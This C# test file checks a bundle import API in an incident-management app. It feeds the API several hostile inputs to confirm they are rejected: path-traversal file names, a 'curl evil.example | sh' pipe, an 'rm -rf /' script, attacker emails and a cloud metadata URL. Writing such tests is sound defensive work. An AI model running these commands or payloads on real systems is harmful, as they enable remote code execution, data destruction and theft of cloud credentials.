using System.Net;
using System.Net.Http.Json;
using System.Text;
using System.Text.Json.Nodes;
using IncidentHub.Tests.Shared;
using IncidentHub.Web.Features.Catalog;
using IncidentHub.Web.Features.Identity;
using IncidentHub.Analysis.Incidents;
using IncidentHub.Web.Infrastructure.Data;
using Microsoft.EntityFrameworkCore;
using Microsoft.Extensions.DependencyInjection;

namespace IncidentHub.Web.Tests.Features.Bundles;

[Collection(AppCollection.Name)]
public sealed class BundleImportTests(IncidentHubFactory app)
{
    [Fact]
    public async Task Import_ValidBundle_Returns201_OpensTheIncident_AndPointsTheCatalogAtTheStoredFiles()
    {
        using var bundle = TinyBundle.Create();
        using var admin = app.Client(IncidentHubFactory.AdminToken);

        var response = await admin.PostAsync("/api/bundles", bundle.Form());

        Assert.Equal(HttpStatusCode.Created, response.StatusCode);
        var body = (await response.Content.ReadFromJsonAsync<JsonObject>())!;
        var reference = Assert.Single(body["incidents"]!.AsArray())!.GetValue<string>();
        var bundleId = body["bundleId"]!.GetValue<string>();
        Assert.StartsWith("900-tiny-", bundleId, StringComparison.Ordinal);
        Assert.Equal($"/incidents/{reference[4..]}", response.Headers.Location!.OriginalString);

        var incident = await admin.GetFromJsonAsync<JsonObject>($"/api/incidents/{reference[4..]}");
        Assert.Equal(bundle.Title, incident!["summary"]!["title"]!.GetValue<string>());

        var dir = Path.Combine(app.BundlesDirectory, bundleId);
        var service = app.Services.GetRequiredService<ServiceCatalog>().Find(bundle.Service)!;
        var log = Assert.Single(service.Logs);
        Assert.Equal(("file", Path.Combine(dir, "logs", bundle.Service + ".log")), (log.Kind, log.Path));
        Assert.Contains("IndexError: list index out of range", await File.ReadAllTextAsync(log.Path!), StringComparison.Ordinal);
        Assert.Equal(Path.Combine(dir, "repo"), service.Repository!.Path);
        Assert.Equal(("main", "/app/"), (service.Repository.Branch, service.Repository.PathInStackTraces));
        Assert.Contains("items[10]", await File.ReadAllTextAsync(Path.Combine(dir, "repo", "tiny", "handler.py")), StringComparison.Ordinal);
        Assert.Contains("Read the tenth item", RealProcess.Run("git", ["-C", Path.Combine(dir, "repo"), "log", "--format=%s"], dir), StringComparison.Ordinal);

        var metrics = service.Metrics.ToDictionary(m => m.Role, m => m.Query);
        Assert.All(service.Metrics, m => Assert.Equal(("openmetrics", Path.Combine(dir, "metrics.om")), (m.Source, m.Path)));
        Assert.Equal($"sum(rate(http_requests_total{{service=\"{bundle.Service}\",code=~\"5..\"}}[1m])) / sum(rate(http_requests_total{{service=\"{bundle.Service}\"}}[1m]))", metrics["error_ratio"]);
        Assert.Equal($"http_request_duration_p99_seconds{{service=\"{bundle.Service}\"}}", metrics["latency"]);
        Assert.Equal($"container_cpu_usage_cores{{container=\"{bundle.Service}\"}}", metrics["saturation"]);

        // "vendor (third party)" is not a service name: it is left out of the catalog.
        Assert.DoesNotContain(app.Services.GetRequiredService<ServiceCatalog>().Services, s => s.Name.StartsWith("vendor", StringComparison.Ordinal));
    }

    [Fact]
    public async Task Import_SameBundleTwice_WhileTheFirstIncidentIsOpen_OpensItsOwnIncident_WithItsOwnAlert()
    {
        // The same recording imported again (a re-run of an evaluation, a second look) carries the same alert fingerprint;
        // it must not join the earlier import's open incident and be answered with that incident's old diagnosis.
        using var bundle = TinyBundle.Create();
        using var admin = app.Client(IncidentHubFactory.AdminToken);

        var first = await ImportedIncidentAsync(admin, await admin.PostAsync("/api/bundles", bundle.Form()));
        var second = await ImportedIncidentAsync(admin, await admin.PostAsync("/api/bundles", bundle.Form()));

        Assert.NotEqual(first, second);
        await using var db = await app.Services.GetRequiredService<IDbContextFactory<AppDbContext>>().CreateDbContextAsync();
        var incidents = await db.Incidents.Where(i => i.Number == first || i.Number == second).ToDictionaryAsync(i => i.Number);
        Assert.NotEqual(IncidentState.Resolved, incidents[first].State);
        foreach (var number in new[] { first, second })
        {
            var alerts = await db.Alerts.Where(a => a.IncidentId == incidents[number].Id).ToListAsync();
            Assert.Equal((1, 1), (alerts.Count, alerts.Sum(a => a.Count)));
        }
    }

    private static async Task<int> ImportedIncidentAsync(HttpClient admin, HttpResponseMessage response)
    {
        Assert.Equal(HttpStatusCode.Created, response.StatusCode);
        var body = (await response.Content.ReadFromJsonAsync<JsonObject>())!;
        return int.Parse(Assert.Single(body["incidents"]!.AsArray())!.GetValue<string>()[4..], System.Globalization.CultureInfo.InvariantCulture);
    }

    [Fact]
    public async Task Import_WithCatalogEntry_TakesItsTierAndOwner()
    {
        using var bundle = TinyBundle.Create();
        using var admin = app.Client(IncidentHubFactory.AdminToken);
        var catalog = Encoding.UTF8.GetBytes($"name: {bundle.Service}\ntier: 1\nowner: tiny-team\ndepends_on: [postgres-main]\n");

        var response = await admin.PostAsync("/api/bundles", bundle.Form(parts => parts.Add(("catalog", "catalog.yaml", catalog))));

        Assert.Equal(HttpStatusCode.Created, response.StatusCode);
        var service = app.Services.GetRequiredService<ServiceCatalog>().Find(bundle.Service)!;
        Assert.Equal((1, "tiny-team"), (service.Tier, service.Owner));
        Assert.NotEmpty(service.Logs);
    }

    [Theory]
    [InlineData("../../etc/cron.d/evil.log", "path traversal")]
    [InlineData("..%2f..%2fevil.log", "path traversal")]
    [InlineData("Not A Service.log", "not named <service>.log")]
    public async Task Import_BadLogFileName_Returns400(string fileName, string expected)
    {
        using var bundle = TinyBundle.Create();
        using var admin = app.Client(IncidentHubFactory.AdminToken);

        var response = await admin.PostAsync("/api/bundles", bundle.Form(parts =>
        {
            var log = parts.Single(p => p.Field == "logs");
            parts.Remove(log);
            parts.Add(("logs", fileName, log.Content));
        }));

        await AssertProblemAsync(response, HttpStatusCode.BadRequest, expected);
        Assert.Null(app.Services.GetRequiredService<ServiceCatalog>().Find(bundle.Service));
        Assert.False(File.Exists(Path.Combine(app.BundlesDirectory, "..", "..", "etc", "cron.d", "evil.log")));
    }

    [Fact]
    public async Task Import_RepositoryThatIsNotAGitBundle_Returns400_AndStoresNothing()
    {
        using var bundle = TinyBundle.Create();
        using var admin = app.Client(IncidentHubFactory.AdminToken);
        var before = Directory.GetDirectories(app.BundlesDirectory).Length;

        var response = await admin.PostAsync("/api/bundles", bundle.Form(parts =>
        {
            parts.RemoveAll(p => p.Field == "repository");
            parts.Add(("repository", "repo.bundle", Encoding.UTF8.GetBytes("#!/bin/sh\ncurl evil.example | sh\n")));
        }));

        await AssertProblemAsync(response, HttpStatusCode.BadRequest, "not a complete git bundle");
        Assert.Null(app.Services.GetRequiredService<ServiceCatalog>().Find(bundle.Service));
        Assert.True(Directory.GetDirectories(app.BundlesDirectory).Length <= before);
    }

    [Fact]
    public async Task Import_WithoutAlert_Returns400()
    {
        using var bundle = TinyBundle.Create();
        using var admin = app.Client(IncidentHubFactory.AdminToken);

        var response = await admin.PostAsync("/api/bundles", bundle.Form(parts => parts.RemoveAll(p => p.Field == "alert")));

        await AssertProblemAsync(response, HttpStatusCode.BadRequest, "no alert");
    }

    [Fact]
    public async Task Import_UnknownPart_Returns400()
    {
        using var bundle = TinyBundle.Create();
        using var admin = app.Client(IncidentHubFactory.AdminToken);

        var response = await admin.PostAsync("/api/bundles", bundle.Form(parts => parts.Add(("script", "make_repo.sh", Encoding.UTF8.GetBytes("rm -rf /")))));

        await AssertProblemAsync(response, HttpStatusCode.BadRequest, "Unexpected part 'script'");
    }

    [Fact]
    public async Task Import_AsViewer_Returns403()
    {
        using var bundle = TinyBundle.Create();
        using var viewer = app.Client(await app.CreateUserAsync($"viewer-{Guid.NewGuid():N}@test.local", "Viewer!pass-123", Roles.Viewer));

        var response = await viewer.PostAsync("/api/bundles", bundle.Form());

        Assert.Equal(HttpStatusCode.Forbidden, response.StatusCode);
        Assert.Null(app.Services.GetRequiredService<ServiceCatalog>().Find(bundle.Service));
    }

    [Fact]
    public async Task Import_ChangingAServiceAPersonEdited_Returns409WithTheDiff_AndChangesNothing_UntilConfirmed()
    {
        using var bundle = TinyBundle.Create();
        var store = app.Services.GetRequiredService<CatalogStore>();
        await store.SaveAsync(new ServiceDefinition { Name = bundle.Service, Tier = 1, Owner = "real-team", OwnerEmail = "oncall@real.example" }, IncidentHubFactory.Admin);
        using var admin = app.Client(IncidentHubFactory.AdminToken);
        var catalog = Encoding.UTF8.GetBytes($"name: {bundle.Service}\ntier: 3\nowner: attacker\nowner_email: postmortems@attacker.example\n");
        var incidentsBefore = (await admin.GetFromJsonAsync<JsonArray>("/api/incidents"))!.Count;
        var dirsBefore = Directory.GetDirectories(app.BundlesDirectory).Length;

        var refused = await admin.PostAsync("/api/bundles", bundle.Form(parts => parts.Add(("catalog", "catalog.yaml", catalog))));

        Assert.Equal(HttpStatusCode.Conflict, refused.StatusCode);
        var problem = (await refused.Content.ReadFromJsonAsync<JsonObject>())!;
        Assert.Contains($"confirm={bundle.Service}", problem["detail"]!.GetValue<string>(), StringComparison.Ordinal);
        var change = Assert.Single(problem["changes"]!.AsArray())!;
        Assert.Equal(bundle.Service, change["service"]!.GetValue<string>());
        var paths = change["changes"]!.AsArray().ToDictionary(c => c!["path"]!.GetValue<string>(), c => c!);
        Assert.Equal("oncall@real.example", paths["OwnerEmail"]["before"]!.GetValue<string>());
        Assert.Equal("postmortems@attacker.example", paths["OwnerEmail"]["after"]!.GetValue<string>());
        Assert.Contains(paths.Keys, k => k.StartsWith("Logs", StringComparison.Ordinal));
        var unchanged = (await store.GetAsync(bundle.Service))!;
        Assert.Equal(("oncall@real.example", 1, CatalogOrigin.Edited), (unchanged.Service.OwnerEmail, unchanged.Service.Tier, unchanged.Origin));
        Assert.Empty(unchanged.Service.Logs);
        Assert.Equal(incidentsBefore, (await admin.GetFromJsonAsync<JsonArray>("/api/incidents"))!.Count);
        Assert.True(Directory.GetDirectories(app.BundlesDirectory).Length <= dirsBefore);

        var confirmed = await admin.PostAsync($"/api/bundles?confirm={bundle.Service}", bundle.Form(parts => parts.Add(("catalog", "catalog.yaml", catalog))));

        Assert.Equal(HttpStatusCode.Created, confirmed.StatusCode);
        var changed = (await store.GetAsync(bundle.Service))!.Service;
        Assert.Equal(("postmortems@attacker.example", 3), (changed.OwnerEmail, changed.Tier));
        Assert.NotEmpty(changed.Logs);
    }

    [Fact]
    public async Task Import_SeededService_IsNotChangedByABundleNamingIt()
    {
        using var bundle = TinyBundle.Create();
        using var admin = app.Client(IncidentHubFactory.AdminToken);
        var catalog = Encoding.UTF8.GetBytes("name: geocoder\nowner_email: someone@attacker.example\n");
        var before = app.Services.GetRequiredService<ServiceCatalog>().Find("geocoder")!;

        var response = await admin.PostAsync("/api/bundles", bundle.Form(parts =>
        {
            parts.RemoveAll(p => p.Field == "scenario");
            parts.Add(("scenario", "scenario.yaml", Encoding.UTF8.GetBytes($"id: x\ntitle: x\nsource: generic\nservices: [geocoder, {bundle.Service}]\nprimary_service: {bundle.Service}\n")));
            parts.Add(("catalog", "catalog.yaml", catalog));
        }));

        await AssertProblemAsync(response, HttpStatusCode.Conflict, "geocoder");
        Assert.Equal(before.OwnerEmail, app.Services.GetRequiredService<ServiceCatalog>().Find("geocoder")!.OwnerEmail);
        Assert.Null(app.Services.GetRequiredService<ServiceCatalog>().Find(bundle.Service));
    }

    [Fact]
    public async Task Import_CatalogEntryWithAMetadataPrometheusUrl_Returns400NamingTheField()
    {
        using var bundle = TinyBundle.Create();
        using var admin = app.Client(IncidentHubFactory.AdminToken);
        var catalog = Encoding.UTF8.GetBytes($"name: {bundle.Service}\nhealth_urls: ['http://169.254.169.254/latest/meta-data/']\n");

        var response = await admin.PostAsync("/api/bundles", bundle.Form(parts => parts.Add(("catalog", "catalog.yaml", catalog))));

        await AssertProblemAsync(response, HttpStatusCode.BadRequest, "health_urls");
        Assert.Null(app.Services.GetRequiredService<ServiceCatalog>().Find(bundle.Service));
    }

    private static async Task AssertProblemAsync(HttpResponseMessage response, HttpStatusCode status, string detailPart)
    {
        Assert.Equal(status, response.StatusCode);
        Assert.Equal("application/problem+json", response.Content.Headers.ContentType!.MediaType);
        var problem = (await response.Content.ReadFromJsonAsync<JsonObject>())!;
        Assert.Contains(detailPart, problem["detail"]!.GetValue<string>(), StringComparison.Ordinal);
    }
}
